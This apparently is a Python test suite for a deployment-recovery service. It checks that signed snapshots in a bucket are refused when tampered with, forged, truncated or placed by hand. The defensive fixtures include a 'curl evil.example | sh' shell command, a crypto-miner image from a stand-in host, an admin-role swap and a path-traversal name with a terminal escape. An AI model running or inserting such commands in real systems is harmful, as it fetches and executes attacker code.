"""What stands in the bucket is used only if recovery has stored it: changed, moved or foreign objects are not."""

import json
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx2
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from contracts.base import Target
from contracts.recovery import SnapshotCaptured
from contracts.topics import Party
from services._aws.ecs_views import EcsService
from services._chassis.readiness import Readiness
from services._chassis.signatures import UNSIGNED, Identity, Signatures, Signer, Trust
from services._chassis.signing_keys import TrustedKey
from services.recovery.decisions.capture import TEND
from services.recovery.domain.protection import key_of
from services.recovery.domain.snapshots.definition_changes import definition_changes
from services.recovery.domain.snapshots.proof import StoredObject, sealed_bytes
from services.recovery.domain.snapshots.retention import left_over, worth_reading
from services.recovery.domain.snapshots.snapshot_index import SnapshotEntry
from services.recovery.jobs.tend import Housekeeping
from tests.security.keys import Keys
from tests.services.recovery.harness import ARN, BAD, GOOD, SECRET, START, TARGET, Recovery
from tests.services.recovery.web import client_of

HERE = f"{TARGET.cluster}/{TARGET.service}"
OTHER = Target(account="123456789012", region="us-west-2", cluster="CourtCaseCluster", service="Other")
EVIL = "evil.example/miner@sha256:" + "e" * 64
ADMIN = "arn:aws:iam::123456789012:role/admin"


class Signing:
    """Recovery with keys; a test plays whoever may write to the bucket, and not to Redis."""

    def __init__(self, mode: Signatures = Signatures.DEMANDED) -> None:
        self.keys = Keys()
        self.trusted = self.keys.trusted
        signer = None if mode is Signatures.OFF else self.keys.signers[Party.RECOVERY]
        self.recovery = Recovery(Identity(Trust(mode, lambda: self.trusted), signer))

    @property
    def objects(self) -> dict[str, StoredObject]:
        return self.recovery.shelf.objects

    def lose_redis(self) -> None:
        self.recovery.store.states.clear()

    def forget_hashes(self) -> None:
        """Let index and bucket be as a version before signed snapshots left them."""
        protection = self.recovery.protection
        old = tuple(
            entry.model_copy(update={"sha256": "", "signed_with": ""}) for entry in protection.snapshots
        )  # fmt: skip
        key = f"protection:{TARGET}"
        self.recovery.store.states[key] = protection.replace(snapshots=old).to_bytes()
        for name, stored in self.objects.items():
            self.objects[name] = replace(stored, signature=b"")

    async def listed(self) -> dict[str, Any]:
        answer = await self.call("GET", f"/snapshots/{HERE}")
        assert answer.status_code == 200
        return dict(answer.json())

    async def call(self, method: str, path: str, **body: Any) -> httpx2.Response:
        async def existing(_: Target) -> EcsService:
            return EcsService(await self.recovery.ecs.service(TARGET) or {})

        async with client_of(self.recovery, existing) as web:
            return await web.request(method, path, json=body or None)

    async def assert_not_used(self, snapshot_id: str, words: str) -> None:
        """Neither shown as usable, nor planned, nor brought back."""
        listed = await self.listed()
        assert snapshot_id not in [shown["snapshot_id"] for shown in listed["snapshots"]]
        [told] = [entry for entry in listed["unusable"] if entry["snapshot_id"] == snapshot_id]
        assert words in told["why"]
        for dry_run in (True, False):
            answer = await self.call("POST", f"/rollback/{HERE}", snapshot_id=snapshot_id, dry_run=dry_run)
            assert (answer.status_code, words in answer.json()["detail"]) == (409, True)
        assert self.recovery.ecs.changing == []


def changed(stored: StoredObject, change: Callable[[dict[str, Any]], None]) -> StoredObject:
    document = json.loads(stored.body)
    change(document)
    return replace(stored, body=json.dumps(document).encode())


def container(document: dict[str, Any]) -> dict[str, Any]:
    [found] = document["task_definition"]["containerDefinitions"]
    return dict(found)


def with_container(**values: Any) -> Callable[[dict[str, Any]], None]:
    def change(document: dict[str, Any]) -> None:
        document["task_definition"]["containerDefinitions"] = [container(document) | values]

    return change


def with_definition(**values: Any) -> Callable[[dict[str, Any]], None]:
    return lambda document: document["task_definition"].update(values)


PARTS: dict[str, Callable[[dict[str, Any]], None]] = {
    "image": with_container(image=EVIL),
    "command": with_container(command=["sh", "-c", "curl evil.example | sh"]),
    "task role": with_definition(taskRoleArn=ADMIN),
    "execution role": with_definition(executionRoleArn=ADMIN),
    "digests": lambda document: document.update(digests={"backend": "sha256:" + "e" * 64}),
    "network": lambda document: document["service"].update(networkConfiguration={"awsvpcConfiguration": {}}),
    "target": lambda document: document.update(target=OTHER.model_dump()),
    "id": lambda document: document.update(snapshot_id="20260101_000000_00000000"),
    "time": lambda document: document.update(taken_at="2026-01-12T14:30:01Z"),
    "reason": lambda document: document.update(reason="the good one"),
}


@pytest.mark.parametrize("redis", ["there", "lost", "of the version before"])
@pytest.mark.parametrize("part", PARTS)
async def test_a_snapshot_of_which_a_part_was_changed_is_not_used(part: str, redis: str) -> None:
    signing = Signing()
    snapshot_id = await signing.recovery.snapshot()
    signing.objects[snapshot_id] = changed(signing.objects[snapshot_id], PARTS[part])
    if redis == "lost":
        signing.lose_redis()
    if redis == "of the version before":
        signed = signing.objects[snapshot_id]
        signing.forget_hashes()
        signing.objects[snapshot_id] = signed
    words = "was changed after it was stored" if redis == "there" else "does not fit its content"
    await signing.assert_not_used(snapshot_id, words)


@pytest.mark.parametrize("length", [0, 1, 500])
async def test_what_is_cut_off_is_not_used(length: int) -> None:
    signing = Signing()
    snapshot_id = await signing.recovery.snapshot()
    stored = signing.objects[snapshot_id]
    signing.objects[snapshot_id] = replace(stored, body=stored.body[:-length] if length else b"")
    await signing.assert_not_used(snapshot_id, "was changed after it was stored")
    signing.lose_redis()
    await signing.assert_not_used(snapshot_id, "does not fit its content")


async def test_an_armed_run_ends_with_people_called_and_nothing_foreign_live() -> None:
    signing = Signing()
    recovery = signing.recovery
    await recovery.deployed()
    [snapshot_id] = recovery.shelf.objects
    signing.objects[snapshot_id] = changed(signing.objects[snapshot_id], PARTS["image"])
    before = len(recovery.ecs.changing)
    finished = await recovery.rolled_back()
    assert finished.result == "failed"
    assert "is not used: it was changed after it was stored" in finished.detail
    assert "By hand: aws ecs update-service" in finished.detail
    assert len(recovery.ecs.changing) == before


@pytest.mark.parametrize("redis", ["there", "lost"])
async def test_an_older_snapshot_under_a_newer_id_is_not_used(redis: str) -> None:
    signing = Signing()
    older = await signing.recovery.snapshot()
    signing.recovery.clock.time += 60
    newer = await signing.recovery.snapshot("run-2")
    assert older != newer
    signing.objects[newer] = signing.objects[older]
    if redis == "lost":
        signing.lose_redis()
    await signing.assert_not_used(newer, "was changed" if redis == "there" else "does not fit its content")
    free = "20260112_150000_00000000"
    signing.objects[free] = signing.objects[older]
    await signing.assert_not_used(free, "does not fit its content")


async def test_a_snapshot_of_another_service_is_not_used() -> None:
    signing, signer = Signing(), Signing().keys
    snapshot_id = await signing.recovery.snapshot()
    del signer
    body = changed(signing.objects[snapshot_id], PARTS["target"]).body
    genuine = signing.keys.signers[Party.RECOVERY].signature_of(sealed_bytes(OTHER, snapshot_id, body))
    signing.lose_redis()
    signing.objects[snapshot_id] = StoredObject(body, genuine)
    await signing.assert_not_used(snapshot_id, "does not fit its content")


@pytest.mark.parametrize("party", [party for party in Keys().signers if party is not Party.RECOVERY])
async def test_what_another_party_has_signed_is_not_used(party: Party) -> None:
    signing = Signing()
    snapshot_id = await signing.recovery.snapshot()
    body = changed(signing.objects[snapshot_id], PARTS["image"]).body
    forged = signing.keys.signers[party].signature_of(sealed_bytes(TARGET, snapshot_id, body))
    signing.lose_redis()
    signing.objects[snapshot_id] = StoredObject(body, forged)
    await signing.assert_not_used(snapshot_id, "only recovery stores snapshots")


@pytest.mark.parametrize("signature", [b"", b"no signature", b"0123456789abcdef:AAAA"])
async def test_what_was_put_there_by_hand_is_not_used(signature: bytes) -> None:
    signing = Signing()
    snapshot_id = await signing.recovery.snapshot()
    by_hand = "20260112_143100_ffffffff"
    body = signing.objects[snapshot_id].body.replace(snapshot_id.encode(), by_hand.encode())
    signing.objects[by_hand] = StoredObject(body, signature)
    await signing.assert_not_used(by_hand, "sign")
    signing.lose_redis()
    await signing.assert_not_used(by_hand, "sign")
    assert [shown["snapshot_id"] for shown in (await signing.listed())["snapshots"]] == [snapshot_id]


async def test_a_signature_of_a_message_is_none_of_a_snapshot() -> None:
    signing = Signing()
    snapshot_id = await signing.recovery.snapshot()
    stored = signing.objects[snapshot_id]
    signer = signing.keys.signers[Party.RECOVERY]
    content = sealed_bytes(TARGET, snapshot_id, stored.body).replace(b"surefoot-snapshot-1", b"surefoot-signature-1")
    signing.lose_redis()
    signing.objects[snapshot_id] = replace(stored, signature=signer.signature_of(content))
    await signing.assert_not_used(snapshot_id, "does not fit its content")


async def test_names_that_are_no_ids_and_ids_of_a_time_to_come_hide_no_snapshot() -> None:
    signing = Signing()
    snapshot_id = await signing.recovery.snapshot()
    for number in range(15):
        signing.objects[f"99991231_235959_{number:08x}"] = StoredObject(b"{}")
    signing.objects["../../\x1b[2Jevil"] = StoredObject(b"{}")
    for lost in (False, True):
        if lost:
            signing.lose_redis()
        listed = await signing.listed()
        assert [shown["snapshot_id"] for shown in listed["snapshots"]] == [snapshot_id]
        assert "../../?[2Jevil" in [told["snapshot_id"] for told in listed["unusable"]]
        assert "\x1b" not in json.dumps(listed)


# what is right is used


async def test_a_signed_snapshot_is_brought_back_though_redis_is_lost() -> None:
    signing = Signing()
    recovery = signing.recovery
    snapshot_id = await recovery.snapshot()
    recovery.ecs.deploy_elsewhere(recovery.ecs.add_definition(BAD))
    signing.lose_redis()
    assert [shown["proof"] for shown in (await signing.listed())["snapshots"]] == ["signature"]
    answer = await signing.call("POST", f"/rollback/{HERE}", snapshot_id=snapshot_id)
    await recovery.work()
    assert (answer.status_code, recovery.ecs.updates) == (202, [f"{ARN}:1"])


async def test_the_hash_comes_back_with_the_event_that_recovery_has_published() -> None:
    signing = Signing()
    await signing.recovery.snapshot()
    [event] = signing.recovery.published(SnapshotCaptured)
    [entry] = signing.recovery.protection.snapshots
    signing.lose_redis()
    await signing.recovery.send(event, "again", again=True)
    assert [known.sha256 for known in signing.recovery.protection.snapshots] == [entry.sha256] == [event.sha256]


async def test_a_key_that_was_retired_later_still_proves_and_one_that_was_retired_before_does_not() -> None:
    signing = Signing()
    snapshot_id = await signing.recovery.snapshot()
    signing.lose_redis()
    key_id = signing.keys.signers[Party.RECOVERY].key_id
    key = signing.trusted[key_id]
    signing.trusted = signing.trusted | {key_id: replace(key, until=START + timedelta(days=1))}
    assert [shown["proof"] for shown in (await signing.listed())["snapshots"]] == ["signature"]
    signing.trusted = signing.trusted | {key_id: replace(key, until=START - timedelta(days=1))}
    await signing.assert_not_used(snapshot_id, "was retired before it was taken")


# what an earlier version has stored


async def tended(signing: Signing) -> None:
    """Do the job of the day."""
    held = signing.recovery.work_on(TEND, b"")
    await signing.recovery.jobs[TEND](held)
    await signing.recovery.work(only="purge-snapshots")


async def test_a_snapshot_of_before_signatures_is_adopted_once_and_must_match_from_then_on() -> None:
    signing = Signing()
    snapshot_id = await signing.recovery.snapshot()
    signing.forget_hashes()
    assert [shown["proof"] for shown in (await signing.listed())["snapshots"]] == ["first-use"]
    assert signing.recovery.protection.snapshots[0].sha256 == "", "a GET writes nothing"
    await tended(signing)
    [entry] = signing.recovery.protection.snapshots
    assert (entry.sha256, entry.adopted_at) == (signing.objects[snapshot_id].sha256, signing.recovery.now)
    [shown] = (await signing.listed())["snapshots"]
    assert (shown["proof"], shown["adopted_at"] is not None) == ("index", True)
    genuine = signing.objects[snapshot_id]
    signing.objects[snapshot_id] = replace(changed(genuine, PARTS["image"]), signature=b"")
    await signing.assert_not_used(snapshot_id, "was changed after it was stored")
    signing.objects[snapshot_id] = genuine
    signing.lose_redis()
    assert [shown["proof"] for shown in (await signing.listed())["snapshots"]] == ["signature"], "it was signed, too"


@pytest.mark.parametrize("mode", [Signatures.DEMANDED, Signatures.ACCEPTED])
async def test_what_was_adopted_is_not_adopted_again_without_its_signature_once_redis_is_lost(mode: Signatures) -> None:
    signing = Signing(mode)
    snapshot_id = await signing.recovery.snapshot()
    (event,) = signing.recovery.published(SnapshotCaptured)
    signing.forget_hashes()
    await tended(signing)
    signing.lose_redis()
    await signing.recovery.send(event.model_copy(update={"sha256": ""}), "as before signatures", again=True)
    assert [shown["proof"] for shown in (await signing.listed())["snapshots"]] == ["signature"]
    genuine = signing.objects[snapshot_id]
    signing.objects[snapshot_id] = replace(changed(genuine, PARTS["image"]), signature=b"")
    if mode is Signatures.DEMANDED:
        await signing.assert_not_used(snapshot_id, "it is not signed")
        await tended(signing)
        await signing.assert_not_used(snapshot_id, "it is not signed")
    else:
        assert [shown["proof"] for shown in (await signing.listed())["snapshots"]] == ["first-use"]


async def test_a_rollback_adopts_what_it_uses() -> None:
    signing = Signing()
    await signing.recovery.deployed()
    signing.forget_hashes()
    assert (await signing.recovery.rolled_back()).result == "restored"
    [entry] = signing.recovery.protection.snapshots
    assert entry.sha256
    assert entry.adopted_at is not None


async def test_after_a_new_key_what_the_old_one_has_signed_is_signed_again() -> None:
    signing = Signing()
    await signing.recovery.snapshot()
    new = Signer(Ed25519PrivateKey.generate())
    signing.trusted = {new.key_id: TrustedKey(Party.RECOVERY, new.private.public_key())}
    trust = Trust(Signatures.DEMANDED, lambda: signing.trusted)
    object.__setattr__(signing.recovery.snapshots, "identity", Identity(trust, new))
    await tended(signing)
    assert signing.recovery.protection.snapshots[0].signed_with == new.key_id
    assert signing.recovery.protection.snapshots[0].adopted_at is None
    signing.lose_redis()
    assert [shown["proof"] for shown in (await signing.listed())["snapshots"]] == ["signature"]


async def test_what_was_changed_is_not_adopted() -> None:
    signing = Signing()
    snapshot_id = await signing.recovery.snapshot()
    forged = changed(signing.objects[snapshot_id], PARTS["image"])
    signing.objects[snapshot_id] = replace(forged, signature=b"")
    await tended(signing)
    assert signing.objects[snapshot_id].signature == b""
    await signing.assert_not_used(snapshot_id, "was changed after it was stored")


# without signatures


async def test_without_signatures_the_hash_in_redis_is_what_proves() -> None:
    signing = Signing(Signatures.OFF)
    snapshot_id = await signing.recovery.snapshot()
    assert signing.objects[snapshot_id].signature == b""
    by_hand = "20260112_143100_ffffffff"
    genuine = signing.objects[snapshot_id]
    signing.objects[by_hand] = StoredObject(genuine.body.replace(snapshot_id.encode(), by_hand.encode()))
    signing.objects[snapshot_id] = changed(genuine, PARTS["image"])
    await signing.assert_not_used(snapshot_id, "was changed after it was stored")
    await signing.assert_not_used(by_hand, "who has put it there is not known")
    signing.objects[snapshot_id] = genuine
    signing.lose_redis()
    shown = (await signing.listed())["snapshots"]
    assert {entry["proof"] for entry in shown} == {"none"}, "nothing is left that could prove it, and that is said"


@pytest.mark.parametrize("mode", [Signatures.OFF, Signatures.ACCEPTED])
async def test_after_redis_was_lost_a_new_snapshot_leaves_the_unsigned_ones_usable(mode: Signatures) -> None:
    signing = Signing(mode)
    recovery = signing.recovery
    before = []
    for number in range(3):
        before.append(await recovery.snapshot(f"run-{number}", "after-change"))
        recovery.clock.time += 60
    for name, stored in signing.objects.items():
        signing.objects[name] = replace(stored, signature=b"")
    signing.lose_redis()
    signing.objects["20260112_143130_eeeeeeee"] = changed(
        signing.objects[before[0]],
        lambda document: document.update(snapshot_id="20260112_143130_eeeeeeee", task_definition={}),
    )
    recovery.clock.time += 365 * 24 * 3600
    new = await recovery.snapshot("run-new")
    entries = {entry.snapshot_id: entry for entry in recovery.protection.snapshots}
    assert list(entries) == [new, *reversed(before)], "none is too old while nothing else can be gone back to"
    assert {entries[old].adopted_at for old in before} == {recovery.now}, "on record"
    assert not any(entry.proven for entry in entries.values()), "who says that they passed is not known"
    listed = await signing.listed()
    shown = {snapshot["snapshot_id"]: snapshot for snapshot in listed["snapshots"]}
    assert (list(shown), shown[before[0]]["proof"]) == ([new, *reversed(before)], "index")
    assert [told["snapshot_id"] for told in listed["unusable"]] == ["20260112_143130_eeeeeeee"]
    signing.objects[before[0]] = changed(signing.objects[before[0]], PARTS["image"])
    await signing.assert_not_used(before[0], "was changed after it was stored")
    recovery.ecs.deploy_elsewhere(recovery.ecs.add_definition(BAD))
    answer = await signing.call("POST", f"/rollback/{HERE}", snapshot_id=before[1])
    await recovery.work()
    assert (answer.status_code, recovery.ecs.updates) == (202, [f"{ARN}:1"])


async def test_where_the_index_knows_a_snapshot_no_other_is_adopted() -> None:
    signing = Signing(Signatures.OFF)
    first = await signing.recovery.snapshot()
    by_hand = "20260112_142900_ffffffff"
    stored = signing.objects[first]
    signing.objects[by_hand] = StoredObject(stored.body.replace(first.encode(), by_hand.encode()))
    signing.recovery.clock.time += 60
    second = await signing.recovery.snapshot("run-2")
    assert [entry.snapshot_id for entry in signing.recovery.protection.snapshots] == [second, first]
    await signing.assert_not_used(by_hand, "who has put it there is not known")


async def test_where_signatures_are_demanded_nothing_unsigned_is_adopted() -> None:
    signing = Signing()
    first = await signing.recovery.snapshot()
    signing.objects[first] = replace(signing.objects[first], signature=b"")
    signing.lose_redis()
    signing.recovery.clock.time += 60
    second = await signing.recovery.snapshot("run-2")
    assert [entry.snapshot_id for entry in signing.recovery.protection.snapshots] == [second]
    await signing.assert_not_used(first, "it is not signed")


# retention, and what is shown


async def test_what_is_too_old_goes_without_a_new_snapshot() -> None:
    signing = Signing()
    recovery = signing.recovery
    for number in range(3):
        await recovery.snapshot(f"run-{number}")
        recovery.clock.time += 60
    left = "20250101_000000_00000000"
    signing.objects[left] = StoredObject(b"{}")
    *older, newest = sorted(recovery.protection.snapshots, key=lambda entry: entry.taken_at)
    known = (*older, newest.model_copy(update={"proven": True}))
    recovery.store.states[key_of(TARGET)] = recovery.protection.replace(snapshots=known).to_bytes()
    recovery.clock.time += 40 * 24 * 3600
    await tended(signing)
    [entry] = recovery.protection.snapshots
    assert list(signing.objects) == [entry.snapshot_id], "the newest one stays, however old it is"


async def test_a_service_that_the_policy_does_not_list_keeps_what_it_has() -> None:
    signing = Signing()
    await signing.recovery.snapshot()
    signing.recovery.clock.time += 60
    await signing.recovery.snapshot("run-2")
    signing.recovery.policies.refused = frozenset({TARGET})
    signing.recovery.clock.time += 400 * 24 * 3600
    await tended(signing)
    assert len(signing.objects) == 2


def test_while_the_index_knows_no_proven_version_nothing_is_left_over() -> None:
    now, recovery = datetime(2027, 1, 1, tzinfo=UTC), Recovery().policies.of(TARGET).recovery
    ids = ["20260101_000000_00000000", "not an id"]
    assert left_over(ids, (), now, recovery) == ()
    entry = SnapshotEntry(snapshot_id="20261231_000000", task_definition="t", taken_at=now)
    assert left_over(ids, (entry,), now, recovery) == ()
    entry = entry.model_copy(update={"proven": True})
    assert left_over(ids, (entry,), now, recovery) == ("20260101_000000_00000000",)


def test_all_that_the_index_knows_are_read_however_many_others_there_are() -> None:
    now = datetime(2026, 2, 1, tzinfo=UTC)
    others = [f"20260131_{number:06d}_00000000" for number in range(235959, 235900, -1)]
    known = SnapshotEntry(snapshot_id="20260101_000000_00000000", task_definition="t", taken_at=now)
    choice = worth_reading([*others, known.snapshot_id], (known,), now, 5)
    assert (choice.wanted[-1], len(choice.wanted), choice.foreign) == (known.snapshot_id, 6, {})
    assert choice.unread == len(others) - 5


async def test_the_job_of_a_day_is_begun_once_and_what_the_bucket_lacks_is_told() -> None:
    recovery, readiness = Recovery(), Readiness()

    class Bare:
        async def faults(self) -> list[str]:
            return ["it keeps no versions"]

    housekeeping = Housekeeping(recovery.store, recovery.clock, Bare(), readiness)
    await housekeeping.once()
    await housekeeping.once()
    assert list(recovery.store.jobs) == [f"{TEND}:2026-01-12"]
    assert readiness.degraded == ["The bucket of the snapshots: it keeps no versions."]
    recovery.store.jobs.clear()  # what has ended is forgotten after an hour
    await housekeeping.once()
    assert recovery.store.jobs == {}
    recovery.clock.time += 24 * 3600
    await housekeeping.once()
    assert len(recovery.store.jobs) == 1


async def test_the_plan_shows_images_roles_and_commands_and_no_value() -> None:
    signing = Signing()
    ecs = signing.recovery.ecs
    ecs.definitions[0]["containerDefinitions"][0]["command"] = ["serve", "--password=hunter2-hunter2"]
    ecs.definitions[0]["taskRoleArn"] = ADMIN
    snapshot_id = await signing.recovery.snapshot()
    ecs.deploy_elsewhere(ecs.add_definition(BAD))
    plan = await signing.call("POST", f"/rollback/{HERE}", snapshot_id=snapshot_id, dry_run=True)
    found = {change["setting"]: change["to"] for change in plan.json()["definition"]}
    assert found["taskRoleArn"] == ADMIN
    assert found["containerDefinitions.backend.image"] == GOOD
    assert found["containerDefinitions.backend.command"].startswith("serve --password=")
    assert (SECRET in plan.text, "hunter2" in plan.text) == (False, False)


def test_of_the_environment_only_names_are_compared_aloud() -> None:
    def of(**environment: str) -> dict[str, Any]:
        pairs = [{"name": name, "value": value} for name, value in environment.items()]
        return {"containerDefinitions": [{"name": "web", "image": "a", "environment": pairs, "user": "1"}]}

    now, then = of(KEPT="1", TOKEN="old", GONE="x"), of(KEPT="1", TOKEN="new", NEW="y")
    then["containerDefinitions"][0]["user"] = "0"
    where = "containerDefinitions.web"
    assert definition_changes(now, then) == [
        {"setting": f"{where}.environment.GONE", "from": "[redacted]", "to": None},
        {"setting": f"{where}.environment.NEW", "from": None, "to": "[redacted]"},
        {"setting": f"{where}.environment.TOKEN", "from": "[redacted]", "to": "[redacted]"},
        {"setting": f"{where}.other settings", "from": None, "to": "user"},
    ]
    assert definition_changes(now, now) == []


def test_where_nothing_is_signed_nothing_can_be_signed_again() -> None:
    assert Recovery(UNSIGNED).snapshots.own_key == ""
